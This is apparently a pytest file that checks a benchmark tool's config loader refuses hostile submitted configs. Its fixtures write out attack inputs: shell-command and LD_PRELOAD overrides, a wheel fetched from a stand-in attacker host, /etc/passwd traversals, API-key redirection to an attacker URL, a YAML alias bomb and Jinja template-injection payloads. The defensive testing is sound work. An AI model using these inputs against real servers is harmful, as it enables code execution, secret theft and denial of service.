"""A config loaded under a ``SubmissionPolicy`` (as the management API loads every
submitted config) is data, never code: each test tries to break one rule and expects a
``ConfigError`` naming the file, line and field; the same file through the CLI (no policy)
keeps full power."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from vlmhb.core.config import load_experiment
from vlmhb.core.config.policy import SubmissionPolicy
from vlmhb.core.contracts import Sample
from vlmhb.core.errors import ConfigError
from vlmhb.core.prompts import render_template


@pytest.fixture
def root(vqa_dataset: Path) -> Path:
    """A data root holding the dataset ``mini``; configs are written into it."""
    return vqa_dataset.parent


@pytest.fixture
def policy(root: Path, tmp_path: Path) -> SubmissionPolicy:
    return SubmissionPolicy(
        data_roots=(root,),
        output_root=tmp_path / "runs",
        model_keys={"TEAM_KEY": ("https://llm.team.example/v1",)},
    )


def experiment(model: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "name": "exp",
        "models": [model],
        "datasets": [{"name": "mini", "format": "vqa_csv", "path": "mini"}],
        "tasks": [{"name": "t", "dataset": "mini", "metrics": ["cer"]}],
        **extra,
    }


def write(root: Path, data: dict[str, Any], name: str = "submitted.yaml") -> Path:
    path = root / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def refused(path: Path, policy: SubmissionPolicy, field: str) -> str:
    with pytest.raises(ConfigError) as caught:
        load_experiment(path, policy=policy)
    message = str(caught.value)
    assert f"field '{field}'" in message, message
    assert str(path) in caught.value.location and ":" in caught.value.location  # file:line
    return message


SCRIPTED = {"name": "m", "backend": "scripted", "params": {"rule": "echo"}}

OPERATOR_FIELDS = [
    (
        {
            "name": "m",
            "backend": "vllm",
            "model": "x",
            "params": {"command": ["sh", "-c", "id > /tmp/pwned"]},
        },
        "models.0.params.command",
    ),
    (
        {"name": "m", "backend": "sglang", "model": "x", "params": {"python": "/bin/sh"}},
        "models.0.params.python",
    ),
    (
        {
            "name": "m",
            "backend": "vllm",
            "model": "x",
            "params": {"engine_args": ["--worker-extension-cls", "evil.Module"]},
        },
        "models.0.params.engine_args",
    ),
    (
        {"name": "m", "backend": "vllm", "model": "x", "params": {"env": {"LD_PRELOAD": "x"}}},
        "models.0.params.env",
    ),
    (
        {"name": "m", "backend": "tesseract", "params": {"tesseract_cmd": "/bin/sh"}},
        "models.0.params.tesseract_cmd",
    ),
    (
        {
            "name": "m",
            "backend": "transformers",
            "model_path": "mini",
            "params": {"trust_remote_code": True},
        },
        "models.0.params.trust_remote_code",
    ),
    (
        {**SCRIPTED, "env": {"packages": ["evil @ https://attacker.example/evil.whl"]}},
        "models.0.env",
    ),
    (
        {**SCRIPTED, "env": {"installer": "pip", "packages": ["--index-url=https://x", "y"]}},
        "models.0.env",
    ),
]


@pytest.mark.parametrize(("model", "field"), OPERATOR_FIELDS, ids=[f for _, f in OPERATOR_FIELDS])
def test_operator_fields_are_refused_in_a_submitted_config(
    root: Path, policy: SubmissionPolicy, model: dict[str, Any], field: str
) -> None:
    path = write(root, experiment(model))
    assert "only the server's operator" in refused(path, policy, field)
    assert load_experiment(path, check=False).models[0].name == "m"  # the CLI may


def test_registry_folders_are_the_servers(
    root: Path, policy: SubmissionPolicy, tmp_path: Path
) -> None:
    (tmp_path / "evil").mkdir()
    path = write(root, experiment(SCRIPTED, registry_dirs=[str(tmp_path / "evil")]))
    refused(path, policy, "registry_dirs")


def test_an_operator_preset_is_picked_by_name(root: Path, tmp_path: Path) -> None:
    """What only the operator may write, a submitted config may use by name."""
    folder = tmp_path / "operator-registry"
    folder.mkdir()
    (folder / "models.yaml").write_text(
        yaml.safe_dump(
            [
                {
                    "kind": "model",
                    "name": "team-vllm",
                    "backend": "vllm",
                    "model": "qwen",
                    "params": {
                        "command": ["/opt/vllm/bin/python", "-m", "vllm", "--port", "{port}"]
                    },
                }
            ]
        )
    )
    policy = SubmissionPolicy(
        data_roots=(root,), output_root=tmp_path / "runs", registry_dirs=(folder,)
    )
    path = write(root, experiment({"preset": "team-vllm", "concurrency": 2}))
    spec = load_experiment(path, policy=policy)
    assert spec.models[0].params["command"][0] == "/opt/vllm/bin/python"
    assert spec.models[0].concurrency == 2
    bad = write(root, experiment({"preset": "team-vllm", "params": {"command": ["sh"]}}))
    refused(bad, policy, "models.0.params.command")


OUTSIDE_PATHS = [
    ({**SCRIPTED, "params": {"answers_file": "/etc/passwd"}}, {}, "models.0.params.answers_file"),
    (
        {**SCRIPTED, "params": {"answers_file": "../../../../etc/passwd"}},
        {},
        "models.0.params.answers_file",
    ),
    (
        {**SCRIPTED, "params": {"request_log": "/tmp/outside.log"}},
        {},
        "models.0.params.request_log",
    ),
    (
        {**SCRIPTED, "params": {"request_log": "../../outside.log"}},
        {},
        "models.0.params.request_log",
    ),
    ({**SCRIPTED, "model_path": "/etc/passwd"}, {}, "models.0.model_path"),
    (
        SCRIPTED,
        {"datasets": [{"name": "mini", "format": "vqa_csv", "path": "/etc"}]},
        "datasets.0.path",
    ),
    (
        SCRIPTED,
        {"tasks": [{"name": "t", "dataset": "mini", "prompts": ["/etc/hostname"]}]},
        "tasks.0.prompts.0",
    ),
]


@pytest.mark.parametrize(
    ("model", "extra", "field"),
    OUTSIDE_PATHS,
    ids=[f"{f}={m.get('params', m)}" for m, _, f in OUTSIDE_PATHS],
)
def test_paths_outside_the_roots_are_refused(
    root: Path, policy: SubmissionPolicy, model: dict[str, Any], extra: dict[str, Any], field: str
) -> None:
    path = write(root, {**experiment(model), **extra})
    message = refused(path, policy, field)
    assert str(root) not in message.split(": ", 1)[1]  # no server path in the message


def test_a_symlink_out_of_the_root_is_outside(root: Path, policy: SubmissionPolicy) -> None:
    (root / "passwd").symlink_to("/etc/passwd")
    path = write(root, experiment({**SCRIPTED, "params": {"answers_file": "passwd"}}))
    refused(path, policy, "models.0.params.answers_file")


def test_paths_inside_resolve_by_role(root: Path, policy: SubmissionPolicy, tmp_path: Path) -> None:
    """Inputs against the data root, outputs inside the experiment's output folder, the
    output folder itself is the server's; a model name that is no file stays a name."""
    (root / "answers.csv").write_text("id;model_answer\n0;x\n", encoding="utf-8")
    submitted = tmp_path / "elsewhere"
    submitted.mkdir()
    path = write(
        submitted,
        experiment(
            {**SCRIPTED, "params": {"answers_file": "answers.csv", "request_log": "log/r.txt"}},
            output_dir="/tmp",
        ),
    )
    spec = load_experiment(path, policy=policy)
    params = spec.models[0].params
    assert params["answers_file"] == str(root / "answers.csv")
    assert params["request_log"] == str(tmp_path / "runs" / "exp" / "log" / "r.txt")
    assert spec.output_dir == tmp_path / "runs"
    assert spec.datasets[0].path == root / "mini"
    named = write(root, experiment({**SCRIPTED, "model_path": "Qwen/Qwen2-VL-2B"}))
    assert load_experiment(named, policy=policy).models[0].model_path == "Qwen/Qwen2-VL-2B"


def test_api_key_env_is_the_servers_choice(root: Path, policy: SubmissionPolicy) -> None:
    """The server's own secrets cannot be sent to a URL the submitter picks."""
    openai = {"name": "m", "backend": "openai", "model": "x"}
    steal = write(
        root,
        experiment(
            {**openai, "base_url": "http://attacker.example/v1", "api_key_env": "VLMHB_AUTH_TOKEN"}
        ),
    )
    refused(steal, policy, "models.0.api_key_env")
    redirect = write(
        root,
        experiment(
            {**openai, "base_url": "https://attacker.example/v1", "api_key_env": "TEAM_KEY"}
        ),
    )
    refused(redirect, policy, "models.0.api_key_env")
    lookalike = write(
        root,
        experiment(
            {
                **openai,
                "base_url": "https://llm.team.example/v1.evil.com",
                "api_key_env": "TEAM_KEY",
            }
        ),
    )
    refused(lookalike, policy, "models.0.api_key_env")
    allowed = write(
        root,
        experiment(
            {**openai, "base_url": "https://llm.team.example/v1", "api_key_env": "TEAM_KEY"}
        ),
    )
    assert load_experiment(allowed, policy=policy).models[0].api_key_env == "TEAM_KEY"


def test_a_legacy_pair_is_data_too(root: Path, policy: SubmissionPolicy) -> None:
    """v0.1 model packages come from the operator; a system prompt file from the root."""
    folder = root / "legacy"
    folder.mkdir()
    header = (
        "dataset;task;framework;model_name;system_prompt;prompt_collection;metrics;"
        "only_evaluate_metrics;metrics_aggregators;filter_doc_class;"
        "filter_question_type"
    )
    (folder / "user_config.csv").write_text(
        f"{header}\n../mini;vqa;scripted;m;;;['CER'];false;;;\n", encoding="utf-8"
    )
    base = (
        "framework;model_family;model_name;docker_image;git_python_package;"
        "python_package;module;class_name"
    )
    (folder / "vlm_base.csv").write_text(
        f"{base}\nscripted;x;m;;;evil-package==1.0;;\n", encoding="utf-8"
    )
    with pytest.raises(ConfigError, match=r"models\.0\.env"):
        load_experiment(folder, policy=policy)
    (folder / "vlm_base.csv").write_text(f"{base}\nscripted;x;m;;;;;\n", encoding="utf-8")
    assert load_experiment(folder, policy=policy).models[0].env.packages == []
    # enough ``..`` to reach / from the folder, however deep the temp folder is (xdist adds one)
    escape = "../" * len(folder.parts) + "etc/hostname"
    (folder / "user_config.csv").write_text(
        f"{header}\n../mini;vqa;scripted;m;{escape};;['CER'];false;;;\n", encoding="utf-8"
    )
    with pytest.raises(ConfigError, match="system_prompt"):
        load_experiment(folder, policy=policy)


def test_an_alias_bomb_is_refused_quickly(root: Path, policy: SubmissionPolicy) -> None:
    """726 bytes that expanded to 235 MB of run files: refused at load, for the CLI too."""
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for index in range(1, 9):
        prev = chr(ord("a") + index - 1)
        name = chr(ord("a") + index)
        levels.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    bomb = (
        "\n".join(levels) + "\nname: exp\nmodels: [{name: m, backend: scripted, "
        "params: {x: *i}}]\ndatasets: []\ntasks: []\n"
    )
    path = root / "bomb.yaml"
    path.write_text(bomb, encoding="utf-8")
    assert len(bomb) < 1200
    started = time.monotonic()
    for load_policy in (policy, None):
        with pytest.raises(ConfigError, match="expands to more than"):
            load_experiment(path, policy=load_policy)
    assert time.monotonic() - started < 30  # bounded work, not a timing contract
    recursive = root / "recursive.yaml"
    recursive.write_text("name: &n [*n]\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="refers to itself"):
        load_experiment(recursive, policy=policy)


def test_an_oversized_config_is_refused(root: Path, policy: SubmissionPolicy) -> None:
    path = root / "big.yaml"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("name: exp\n# " + "x" * (2 * 1024 * 1024) + "\n")
    with pytest.raises(ConfigError, match="bytes; at most"):
        load_experiment(path, policy=policy)


SSTI_PAYLOADS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ question.__class__.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ fields.append('x') }}{{ fields }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
]


@pytest.mark.parametrize("template", SSTI_PAYLOADS)
def test_prompt_templates_cannot_reach_python_objects(template: str) -> None:
    sample = Sample(id="1", question="q", fields={"a": "b"})
    try:
        text = render_template(template, sample, "t", "prompts.json")
    except ConfigError as exc:
        assert "prompt template error" in str(exc)
        return
    assert "class" not in text and "module" not in text and "uid=" not in text, text


def test_the_sandbox_still_renders_prompts() -> None:
    sample = Sample(id="1", question="Фамилия?", doc_class="passport", fields={"a": "b"})
    text = render_template(
        "{{ doc_class }}: {{ question }} {{ fields|join(',') }}", sample, "t", "p"
    )
    assert text == "passport: Фамилия? a"


def test_a_template_is_compiled_once_and_renders_each_sample_its_own_values() -> None:
    from vlmhb.core.prompts import _compiled

    template = "{{ doc_class }} · {{ question }} #compiled-once-test"
    before = _compiled.cache_info().misses
    texts = [
        render_template(template, Sample(id=str(i), question=f"q{i}", doc_class="snils"), "t", "p")
        for i in range(50)
    ]
    assert texts == [f"snils · q{i} #compiled-once-test" for i in range(50)]
    assert _compiled.cache_info().misses == before + 1


def test_a_submitted_config_gets_no_environment(
    root: Path, policy: SubmissionPolicy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``api_key_env`` is the only field that names a variable; others are plain data."""
    monkeypatch.setenv("VLMHB_TEST_SECRET", "s3cr3t-value")
    path = write(root, experiment({**SCRIPTED, "params": {"rule": "constant:$VLMHB_TEST_SECRET"}}))
    spec = load_experiment(path, policy=policy)
    assert spec.models[0].params["rule"] == "constant:$VLMHB_TEST_SECRET"
    assert "s3cr3t-value" not in spec.model_dump_json()
    assert os.environ["VLMHB_TEST_SECRET"] == "s3cr3t-value"
